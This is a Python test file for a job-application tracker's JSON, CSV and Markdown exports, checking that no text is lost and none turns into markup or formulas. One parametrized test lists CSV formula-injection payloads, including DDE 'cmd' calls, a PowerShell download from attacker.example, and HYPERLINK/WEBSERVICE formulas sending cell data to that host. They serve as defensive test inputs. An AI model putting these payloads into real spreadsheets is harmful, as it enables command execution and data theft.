"""What leaves in other formats: nothing lost, nothing that another program obeys."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, date, datetime
from typing import TYPE_CHECKING

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from msgspec.structs import replace

from followup_tui.domain.application import Application, Stage
from followup_tui.domain.contact import Contact, ContactKind, Direction
from followup_tui.domain.instant import Instant
from followup_tui.domain.interview import Interview, MovedFrom
from followup_tui.domain.offer import Offer
from followup_tui.domain.person import Party, Person
from followup_tui.domain.promise import Promise
from followup_tui.domain.text import clean_line, clean_text
from followup_tui.exchange.csv_export import COLUMNS, export_csv, safe_cell
from followup_tui.exchange.formats import EXPORTS
from followup_tui.exchange.json_export import application_document, export_json, json_text, rfc3339
from followup_tui.exchange.markdown_export import export_markdown
from followup_tui.exchange.markdown_text import block, inline
from tests.samples import NORTHWIND, NOW, ahead, held, instant, sent, today
from tests.strategies import applications

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable

    from followup_tui.domain.stages import Today

TODAY = today(f"{NOW:%Y-%m-%d %H:%M}")
HOSTILE = "[/b] Ünïcødé 株式会社 👩🏽‍💻 \x1b]0;x\x07"

lines = st.one_of(
    st.just(HOSTILE),
    st.text(max_size=30),
    st.text(alphabet="=+-@'\"`*_#<>[]()|\\&~!$.:1\t ab,;{}", max_size=20),
).map(lambda text: clean_line(text, "It"))
texts = st.one_of(
    lines,
    st.text(alphabet="=+-@'\"`*_#<>[]()|\\&~!$.:1 \nab,;{}", max_size=40),
).map(lambda text: clean_text(text, "It"))


@st.composite
def marked_up(draw: st.DrawFn) -> Application:
    """Draw an application whose texts look like markup and formulas."""
    drawn = draw(applications())
    return replace(
        drawn,
        company=draw(lines),
        role=draw(lines),
        notes=draw(texts),
        unasked=(draw(lines.filter(bool)),),
        interviews=tuple(
            replace(known, said=draw(texts), missed=draw(st.booleans())) for known in drawn.interviews
        ),
        tags=(draw(lines),),
        people=tuple(replace(person, position=draw(lines)) for person in drawn.people),
        contacts=tuple(replace(contact, note=draw(texts)) for contact in drawn.contacts),
    )


NEW_INTERVIEW: dict[str, object] = {
    "id": "",
    "kind": None,
    "state": "",
    "starts_at": None,
    "ends_at": None,
    "ended_at": None,
    "moved_from": [],
    "cancelled_by": None,
    "place": None,
    "link": None,
    "people": [],
    "said": None,
    "reflection": None,
    "missed": False,
    "cancelled_at": None,
    "moves": [],
    "calendar": None,
    "zones": {},
}
"""An interview's keys, in their order."""


def test_the_keys_of_the_json_stand_in_their_order() -> None:
    """Scripts rely on these names, people on their order."""
    ahead = Interview("i2", Instant(datetime(2026, 11, 30, 9, tzinfo=UTC), "America/New_York"))
    application = replace(
        NORTHWIND,
        interviews=(replace(held("2026-11-20 10:00"), people=("p1",), missed=True, said="Two\nlines"), ahead),
        unasked=("How big is the team?",),
        people=(Person("p1", "Jana"),),
        contacts=(sent("2026-11-20 10:00", ContactKind.OTHER),),
    )
    document = application_document(application, TODAY)
    assert list(document) == [
        *("id", "uid", "company", "role", "via", "stage", "outcome", "decision_date", "expected_by"),
        *("next_interview", "interviews", "people", "contacts", "offer", "promises", "tags", "notes"),
        *("links", "created_at", "updated_at"),
        *("unasked", "letters", "stored_stage", "stage_since", "closed_at", "decision_told_at"),
        *(
            "overdue_dismissed",
            "snoozed_until",
            "snoozed_at",
            "company_group",
            "source_ids",
            "clashes",
            "revision",
            "zones",
        ),
    ]
    assert document["interviews"] == [
        {
            **NEW_INTERVIEW,
            "id": "i1",
            "state": "missed",
            "ended_at": "2026-11-20T10:00:00+01:00",
            "people": ["p1"],
            "said": "Two\nlines",
            "missed": True,
            "zones": {"ended_at": "Europe/Berlin"},
        },
        {
            **NEW_INTERVIEW,
            "id": "i2",
            "state": "planned",
            "starts_at": "2026-11-30T04:00:00-05:00",
            "zones": {"starts_at": "America/New_York"},
        },
    ]
    assert document["unasked"] == ["How big is the team?"]
    assert document["people"] == [
        {
            "id": "p1",
            "name": "Jana",
            "form_of_address": None,
            "position": None,
            "email": None,
            "phone": None,
            "checked": False,
            "family_name": None,
            "at_agency": False,
            "by_first_name": None,
        }
    ]
    assert document["contacts"] == [
        {
            "id": "",
            "at": "2026-11-20T10:00:00+01:00",
            "direction": "sent",
            "kind": "other",
            "channel": "email",
            "person": None,
            "note": None,
            "needs_answer": False,
            "settled": False,
            "message_id": None,
            "zones": {"at": "Europe/Berlin"},
        }
    ]
    assert document["next_interview"] == "2026-11-30T04:00:00-05:00"
    assert (document["outcome"], document["decision_date"], document["notes"]) == (None, None, None)


def test_the_stage_of_the_json_is_todays() -> None:
    """A card whose day has passed is overdue for scripts too, and the day is the one they named."""
    document = application_document(
        replace(NORTHWIND, stage=Stage.WAITING, decision_date=date(2026, 11, 20)), TODAY
    )
    assert (document["stage"], document["expected_by"]) == ("overdue", "2026-11-20")


def test_a_moment_before_standard_time_is_still_rfc_3339() -> None:
    """An offset of odd seconds, which RFC 3339 cannot say, becomes UTC."""
    assert rfc3339(Instant(datetime(1880, 1, 1, tzinfo=UTC), "Europe/Berlin")) == "1880-01-01T00:00:00+00:00"
    assert rfc3339(None) is None


@given(marked_up())
def test_json_gives_back_every_text(application: Application) -> None:
    """What the JSON says is what stands in the application, and letters stay letters."""
    text = export_json([application], TODAY)
    (read,) = json.loads(text)
    assert read == json.loads(json_text(application_document(application, TODAY)))
    assert (read["company"], read["role"], read["tags"]) == (
        application.company,
        application.role,
        [*application.tags],
    )
    assert (read["notes"] or "", read["links"]) == (application.notes, [*application.links])
    assert read["unasked"] == [*application.unasked]
    assert [known["said"] or "" for known in read["interviews"]] == [
        known.said for known in application.interviews
    ]
    assert [contact["note"] or "" for contact in read["contacts"]] == [
        contact.note for contact in application.contacts
    ]
    assert [person["name"] for person in read["people"]] == [person.name for person in application.people]
    for moment in (read["created_at"], *(contact["at"] for contact in read["contacts"])):
        assert datetime.fromisoformat(moment).utcoffset() is not None
    assert application.company in text or "\\" in text


@given(st.lists(marked_up(), max_size=2))
def test_csv_gives_back_every_text(many: list[Application]) -> None:
    """A reader of CSV finds each text again, and no cell begins like a formula."""
    rows = list(csv.reader(io.StringIO(export_csv(many, TODAY), newline="")))
    assert tuple(rows[0]) == COLUMNS
    assert len(rows) == len(many) + 1
    for application, row in zip(many, rows[1:], strict=True):
        assert not any(cell.startswith(("=", "@", "\t", "\r")) for cell in row)
        cells = dict(zip(COLUMNS, map(plain_cell, row), strict=True))
        assert (cells["company"], cells["role"], cells["notes"]) == (
            application.company,
            application.role,
            application.notes,
        )
        assert all(contact.note in cells["contacts"] for contact in application.contacts)
        assert all(interview.said in cells["interviews"] for interview in application.interviews)


def plain_cell(cell: str) -> str:
    """Return the text of a cell without the apostrophe that was put before it."""
    return cell[1:] if cell.startswith("'") and safe_cell(cell[1:]) == cell else cell


@given(st.text(max_size=20) | st.text(alphabet="'=+-@\t\r\nx", max_size=6))
@example("'=x")
@example("''=x")
@example("\uff1dx")
def test_a_cell_is_safe_and_can_be_read_back(text: str) -> None:
    """No text is lost by the apostrophe, not even one that has some itself."""
    cell = safe_cell(text)
    assert not cell.startswith(("=", "@", "|", "%", "\t", "\r", "\n", "\uff1d"))
    assert not cell.startswith(("+", "-")) or not re.search(r"[^-+0-9 ().,/]", cell)
    assert plain_cell(cell) == text


@pytest.mark.parametrize(
    "attack",
    [
        "=1+1",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "=cmd|'/C powershell IEX(wget attacker.example/x)'!A0",
        "=10+20+cmd|' /C calc'!A0",
        "=         cmd|'/c calc.exe'!A",
        "=rundll32|'URL.dll,OpenURL calc.exe'!A",
        "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
        "+thespanishinquisition(cmd|'/c calc.exe'!A",
        '=HYPERLINK("http://attacker.example?x="&A1,"Click")',
        '=IMPORTXML(CONCAT("http://attacker.example/",A1),"//a")',
        '=WEBSERVICE("http://attacker.example/"&A1)',
        'DDE ("cmd";"/C calc";"!A0")A0',
        'dde("cmd";"/C calc";"!A0")',
        "%0A-3+3+cmd|' /C calc'!D2",
        "%0D=1+1",
        ";=1+1",
        ",=1+1",
        " =1+1",
        "\u00a0=1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        '"=1+1',
        "'=1+1",
        "`=1+1",
        '" =1+1',
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\tx",
        "\uff1d1+1",
        "\uff0b1+cmd",
        "\uff0d1+cmd",
        "\uff20SUM(1)",
        "\ufe661+1",
        "\u22121+cmd|x",
        "|calc",
        "+A1",
        "-A1",
        "-1+A1",
        "+49 89 A1",
        "--1",
        "-",
        "+49-89-1234",
    ],
)
def test_what_a_spreadsheet_would_run_is_text(attack: str) -> None:
    """The known attacks: signs, DDE, and what stands before a sign to get past a check."""
    assert safe_cell(attack) == f"'{attack}"
    assert plain_cell(safe_cell(attack)) == attack


@pytest.mark.parametrize(
    "text",
    [
        *("-3", "-1,500", "-0.5", "\u22123", "+49 89 1234567", "+49 (89) 12-34", "+1 555 0100", "0", ""),
        *("Data engineer", "50% remote", "C++", "a=b", "Q&A", "1-2 days", "jana@northwind.example"),
        *("'tis", "[[x]]", "#1", "49 89 1234", "(+49) 89 1234"),
    ],
)
def test_numbers_and_plain_texts_stay_as_they_are(text: str) -> None:
    """A negative number and a phone number do nothing, and are to be read."""
    assert safe_cell(text) == text


def shown(markdown: str) -> str:
    """What a reader of this Markdown sees: the text alone, lines and paragraphs as newlines."""
    seen = []
    for token in MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(markdown):
        if token.type in {"html_block", "fence", "code_block", "hr"}:
            seen.append(f"MARKUP {token.type}")
        for child in token.children or ():
            if child.type in {"text", "text_special"}:
                seen.append(child.content)
            elif child.type in {"hardbreak", "softbreak"}:
                seen.append("\n")
            else:
                seen.append(f"MARKUP {child.type}")
        if token.type == "inline":
            seen.append("\n")
    return "".join(seen).replace("\xa0", " ")


@given(lines)
@example(HOSTILE.replace("\x1b", "").replace("\x07", ""))
@example("1. <b> & [x](y) `z` ~~no~~ &amp; \\ ![](x)")
@example("- list")
@example("# heading #")
def test_markdown_shows_a_line_as_it_was_typed(text: str) -> None:
    """A name is never markup, neither at the start of a line nor in a heading or a list."""
    plain = text.replace("\xa0", " ")
    assert shown(inline(text)).strip() == plain
    assert shown(f"## {inline(text)}: x").strip() == f"{plain}: x".strip()
    assert shown(f"- x {inline(text)}").strip() == f"x {plain}".strip()


@given(texts)
@example("    four spaces\n\n    again\n- no list\n===")
def test_markdown_keeps_the_lines_of_a_note(text: str) -> None:
    """Every line of a note is a line of what is shown, with nothing added to it."""

    def told(kept: str) -> list[str]:
        return [line.replace("\xa0", " ").rstrip() for line in kept.splitlines() if line.strip()]

    assert told(shown(block(text))) == told(text)
    assert told(shown(f"- x\n\n  {block(text, '  ')}"))[1:] == told(text)


@given(marked_up())
def test_markdown_has_no_markup_but_its_own(application: Application) -> None:
    """Whatever stands in an application, its section is headings, lists and text."""
    markdown = export_markdown([application], TODAY)
    assert "MARKUP" not in shown(markdown) or "MARKUP" in application.company + application.notes
    kinds = {token.type for token in MarkdownIt("commonmark").parse(markdown)}
    assert not kinds & {"html_block", "fence", "code_block", "hr", "blockquote_open", "ordered_list_open"}
    headings = [
        token.tag for token in MarkdownIt("commonmark").parse(markdown) if token.type == "heading_open"
    ]
    assert headings.count("h1") == 1
    assert headings.count("h2") == 1


def test_markdown_reads_as_a_story() -> None:
    """One section: where it stands, who, what happened in order, what was noted."""
    later = instant("2026-11-20 16:00")
    application = replace(
        NORTHWIND,
        decision_date=date(2026, 11, 27),
        interviews=(
            replace(held("2026-11-19 10:00"), missed=True),
            replace(held("2026-11-20 10:00", 2), people=("p1",), said="They *promised*\na laptop"),
        ),
        people=(Person("p1", "Jana Novák", "Dr.", "Head of Data", checked=True),),
        contacts=(
            Contact(later, Direction.SENT, ContactKind.THANK_YOU, person="p1", note="Asked about\nthe team"),
        ),
        notes="Bring the book",
        unasked=("How big is the team?", "- Who left?"),
        links=("https://northwind.example/jobs",),
        tags=("remote",),
    )
    assert (
        export_markdown([application], TODAY)
        == """\
# Applications

As they stood on Mon 23 Nov 2026.

## Northwind: Data engineer

Interviewed. They decide by Fri 27 Nov 2026.

### People

- Dr. Jana Novák, Head of Data

### What happened

- Thu 19 Nov 2026 10:00: interview 1 did not take place
- Fri 20 Nov 2026 10:00: interview 2 with Dr. Jana Novák

  They \\*promised\\*\\
  a laptop
- Fri 20 Nov 2026 16:00: you sent a thank-you to Dr. Jana Novák by email

  Asked about\\
  the team

### Left unasked

- How big is the team?
- \\- Who left?

### Notes

Bring the book

### Links

- https://northwind.example/jobs

Tags: remote
"""
    )


def test_markdown_tells_of_offers_promises_and_changed_appointments() -> None:
    """What was moved, by whom, what was cancelled, what is promised and offered, and that it is only said."""
    moved = MovedFrom(instant("2026-11-26 09:30"), Party.THEM, instant("2026-11-20"))
    markdown = export_markdown(
        [
            replace(
                NORTHWIND,
                interviews=(
                    replace(held("2026-11-06 10:00"), cancelled_by=Party.ME),
                    replace(ahead("2026-11-30 10:00", 2), moved_from=(moved,), place="Room 4"),
                ),
                offer=Offer(
                    instant("2026-11-20"),
                    answer_by=instant("2026-11-27"),
                    terms=("salary 72,000",),
                    is_verbal=True,
                ),
                promises=(
                    Promise("1", "references", due=date(2026, 11, 27)),
                    Promise("2", "a second day", Party.THEM, dropped_at=instant("2026-11-21")),
                ),
            )
        ],
        TODAY,
    )
    for line in (
        "An offer is open, answer by Fri 27 Nov 2026 12:00, not in writing yet.",
        "- you promised: references, by Fri 27 Nov 2026",
        "- they promised: a second day, dropped",
        "- Fri 6 Nov 2026 10:00: interview 1, cancelled by you",
        "- Fri 20 Nov 2026 12:00: they made an offer\n\n  salary 72,000",
        "interview 2 planned, moved from Thu 26 Nov 09:30 by them; Room 4",
    ):
        assert line in markdown


@pytest.mark.parametrize("export", EXPORTS.values())
def test_nothing_exports_as_a_whole_document(export: Callable[[Iterable[Application], Today], str]) -> None:
    """Without applications each format is still what its readers expect."""
    assert export([], TODAY).endswith("\n")
